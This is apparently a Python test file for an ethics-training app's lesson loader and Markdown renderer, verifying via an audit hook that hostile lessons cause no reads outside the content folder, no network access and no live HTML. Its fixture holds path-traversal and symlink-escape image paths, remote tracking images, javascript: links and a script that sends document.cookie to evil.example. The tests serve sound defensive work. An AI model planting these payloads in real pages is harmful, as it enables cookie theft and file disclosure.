"""Hostile lessons: nothing outside the content folder is read, nothing is fetched.

An audit hook (PEP 578) records every file opened and every socket used while the loader and
the renderer work on lessons that point at ``../``, absolute and ``file:`` paths, remote URLs,
a symlink leading out, and raw ``<script>``/``<iframe>`` HTML.
"""

from __future__ import annotations

import os
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from ethics_trainer.content.loader import load_library
from ethics_trainer.content.render import render_inline, render_markdown
from ethics_trainer.i18n import set_language

from ..conftest import write_sample_content

_recording: list[tuple[str, object]] | None = None
NETWORK_EVENTS = {"socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "urllib.Request"}
FILE_EVENTS = {"open", "os.listdir", "os.scandir"}


def _hook(event: str, args: tuple[object, ...]) -> None:
    if _recording is not None and (event in FILE_EVENTS or event in NETWORK_EVENTS):
        _recording.append((event, args[0] if args else None))


sys.addaudithook(_hook)  # hooks cannot be removed; it records only inside ``recording()``


@contextmanager
def recording() -> Iterator[list[tuple[str, object]]]:
    global _recording
    events: list[tuple[str, object]] = []
    _recording = events
    try:
        yield events
    finally:
        _recording = None


PACKAGE = Path(__file__).resolve().parents[2] / "ethics_trainer"  # code and .mo catalogues
CODE_SUFFIXES = {".py", ".pyc", ".so", ".pth", ".txt", ""}


def _import_machinery(path: Path) -> bool:
    """Python finding modules and package metadata (Markdown looks up its extensions)."""
    for entry in {Path(p or ".").resolve() for p in sys.path}:
        if path == entry:
            return True
        if path.is_relative_to(entry) and (
            path.suffix in CODE_SUFFIXES
            # Python may write byte code while the test watches (``x.pyc.<pid>`` temp files
            # when an installer did not precompile): still the import machinery.
            or "__pycache__" in path.parts
            or any(part.endswith((".dist-info", ".egg-info")) for part in path.parts)
        ):
            return not path.is_relative_to(entry / "content")
    return False


def outside_reads(events: list[tuple[str, object]], root: Path) -> list[str]:
    bad = []
    for event, target in events:
        if event not in FILE_EVENTS or target is None or isinstance(target, int):
            continue
        path = Path(os.fsdecode(target)).resolve()  # type: ignore[arg-type]
        if path.is_relative_to(root) or path.is_relative_to(PACKAGE):
            continue
        if _import_machinery(path):
            continue
        bad.append(f"{event} {path}")
    return bad


HOSTILE_LESSON = """---
id: mau-l2
title: Bài độc hại
---
# Bài độc hại

![lên thư mục cha](../../../secret.png)
![tuyệt đối]({secret})
![file url](file://{secret})
![từ xa](http://evil.example/track.png)
![giao thức tương đối](//evil.example/x.png)
![liên kết mềm](link.png)
<img src="http://evil.example/pixel.gif">
<img src="{secret}">

<script>fetch('http://evil.example/?c=' + document.cookie)</script>

<iframe src="http://evil.example/"></iframe>

<style>body {{ background: url(http://evil.example/bg.png) }}</style>

[một liên kết](http://evil.example/page) và <a href="javascript:alert(1)">bấm</a>
"""


def parse_tags(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    """The real tags of ``html`` (escaped text is not a tag)."""
    from html.parser import HTMLParser

    found: list[tuple[str, list[tuple[str, str | None]]]] = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, attrs))

    Collector().feed(html)
    return found


def make_hostile(tmp_path: Path) -> tuple[Path, Path]:
    secret = tmp_path / "secret.png"
    secret.write_bytes(b"\x89PNG secret outside the content folder")
    root = write_sample_content(tmp_path / "content").resolve()
    lessons = root / "mau" / "lessons"
    (lessons / "link.png").symlink_to(secret)
    (lessons / "02-hostile.md").write_text(HOSTILE_LESSON.format(secret=secret), encoding="utf-8")
    return root, secret


def test_loader_reads_nothing_outside_and_reports_each_image(tmp_path: Path) -> None:
    root, _secret = make_hostile(tmp_path)
    set_language("en")  # problems are written in the language current at load time
    try:
        with recording() as events:
            library = load_library(root)
    finally:
        set_language("vi")
    assert outside_reads(events, root) == []
    assert not [e for e in events if e[0] in NETWORK_EVENTS]
    hostile = [p for p in library.problems if p.path.endswith("02-hostile.md")]
    messages = "\n".join(p.format() for p in hostile)
    assert "outside the content folder" in messages and "remote image" in messages
    assert all(p.line > 1 for p in hostile)  # each problem points at its line


def test_renderer_shows_html_as_text_and_no_outside_image(tmp_path: Path) -> None:
    root, secret = make_hostile(tmp_path)
    lesson = root / "mau" / "lessons" / "02-hostile.md"
    body = lesson.read_text(encoding="utf-8").split("---", 2)[2]
    with recording() as events:
        out = render_markdown(body, base=lesson.parent, root=root)
    assert outside_reads(events, root) == []
    assert not [e for e in events if e[0] in NETWORK_EVENTS]
    tags = parse_tags(out.html)
    assert not [t for t, _ in tags if t in {"script", "iframe", "style", "object", "embed"}]
    assert "&lt;script&gt;" in out.html  # shown as text
    for tag, attrs in tags:
        for name, value in attrs:
            assert not (value or "").lower().startswith("javascript:"), (tag, name, value)
            if name == "src":
                assert value.startswith("file://") and root.as_uri() in value, (tag, value)
    assert secret.as_uri() not in out.html  # the secret's path may appear only as text
    assert out.images == []  # every image was hostile


def test_inline_fragments_show_html_as_text() -> None:
    with recording() as events:
        inline = render_inline("<script>alert(1)</script> <iframe src='http://evil.example'>")
    assert not [e for e in events if e[0] in NETWORK_EVENTS]
    assert not [t for t, _ in parse_tags(inline) if t in {"script", "iframe"}]


def test_inline_fragments_drop_remote_images() -> None:
    inline = render_inline("Phương án ![x](http://evil.example/a.png)")
    assert not [a for t, a in parse_tags(inline) if t == "img"]
